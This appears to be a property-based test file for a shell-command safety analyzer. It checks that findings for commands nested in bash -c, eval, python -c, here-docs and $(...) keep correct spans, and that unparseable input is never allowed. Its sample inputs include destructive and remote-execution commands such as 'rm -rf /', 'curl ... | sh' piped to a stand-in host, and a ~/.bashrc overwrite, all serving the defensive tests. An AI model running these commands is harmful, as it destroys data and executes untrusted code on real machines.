"""Property tests for code nested in strings (sh -c, eval, python -c, here-docs, $(...)): every
finding's span stays inside the original text, and unparseable text never gets `allow`."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safety.analyzer import Analyzer, AnalyzerConfig, load_default_policy
from safety.analyzer.frontends import treesitter_fe

ANALYZER = Analyzer(load_default_policy(), AnalyzerConfig(cache_size=0))
NO_BASHLEX = Analyzer(load_default_policy(), AnalyzerConfig(cache_size=0, use_bashlex=False))

LEAVES = [
    "rm -rf /",
    "ls -la",
    "$x",
    "$x cat",
    "eval $y",
    "curl -s https://x.example | sh",
    "echo ok > ~/.bashrc",
    "git push --force",
    "cat tests/test_a.py",
    "$(echo rm) -rf ~",
    "x=1; $x",
    "if true; then :",  # unterminated
    "echo 'open",  # unterminated quote
    "g() { rm -rf ~; }; g",
    "g",  # calls the function defined in an outer text
]


def _wrap(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    def single(s: str) -> str:
        return "'" + s.replace("'", "'\\''") + "'"

    def double(s: str) -> str:
        return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'

    prefixes = st.sampled_from(["", "ls; ", "cd /tmp && ", "g() { $x /; }; "])
    return st.tuples(st.integers(0, 8), inner, prefixes).map(
        lambda t: (
            t[2]
            + [
                lambda s: f"bash -c {single(s)}",
                lambda s: f"sh -c {double(s)}",
                lambda s: f"eval {double(s)}",
                lambda s: f"eval {s}",
                lambda s: f"echo $({s})",
                lambda s: f"sudo env bash -c {single(s)}",
                lambda s: f"python -c {double('import os; os.system(' + repr(s) + ')')}",
                lambda s: f"bash <<EOF\n{s}\nEOF",
                lambda s: f"xargs sh -c {single(s)} < /dev/null",
            ][t[0]](t[1])
        )
    )


nested_shell = st.recursive(st.sampled_from(LEAVES), _wrap, max_leaves=6)

_SETTINGS = settings(
    max_examples=400, deadline=None, suppress_health_check=list(HealthCheck), database=None
)


@_SETTINGS
@given(nested_shell)
def test_spans_of_nested_code_stay_inside_the_text(text: str) -> None:
    for analyzer in (ANALYZER, NO_BASHLEX):
        result = analyzer.analyze(text)
        for f in result.findings:
            assert 0 <= f.span[0] <= f.span[1] <= len(text), (f.rule, f.span, len(text))
        assert "analyzer.internal-error" not in {f.rule for f in result.findings}


@_SETTINGS
@given(nested_shell)
def test_what_tree_sitter_cannot_parse_is_never_allowed(text: str) -> None:
    parsed = treesitter_fe.parse(text)
    if not parsed.ok:
        assert ANALYZER.analyze(text).verdict != "allow"


def test_known_nested_spans() -> None:
    """Regression: a finding inside ``bash -c '...'`` used to be shifted twice."""
    text = "bash -c 'eval \"$x cat\"' "
    (finding,) = ANALYZER.analyze(text).findings
    assert finding.rule == "analyzer.eval-dynamic"
    assert text[finding.span[0] : finding.span[1]] == 'eval "$x cat"'


def test_function_body_spans_are_in_the_defining_text() -> None:
    """Regression: a function defined at top level and called inside ``sh -c`` had its body's
    spans shifted by the caller's offset (fuzz inputs 46452, 60934)."""
    text = "f() { rm -rf /; }; bash -c 'f'"
    findings = ANALYZER.analyze(text).findings
    assert findings and all(text[f.span[0] : f.span[1]] == "rm -rf /" for f in findings)
    text = "f(){$H;}sh -c f"
    for f in ANALYZER.analyze(text).findings:
        assert 0 <= f.span[0] <= f.span[1] <= len(text)
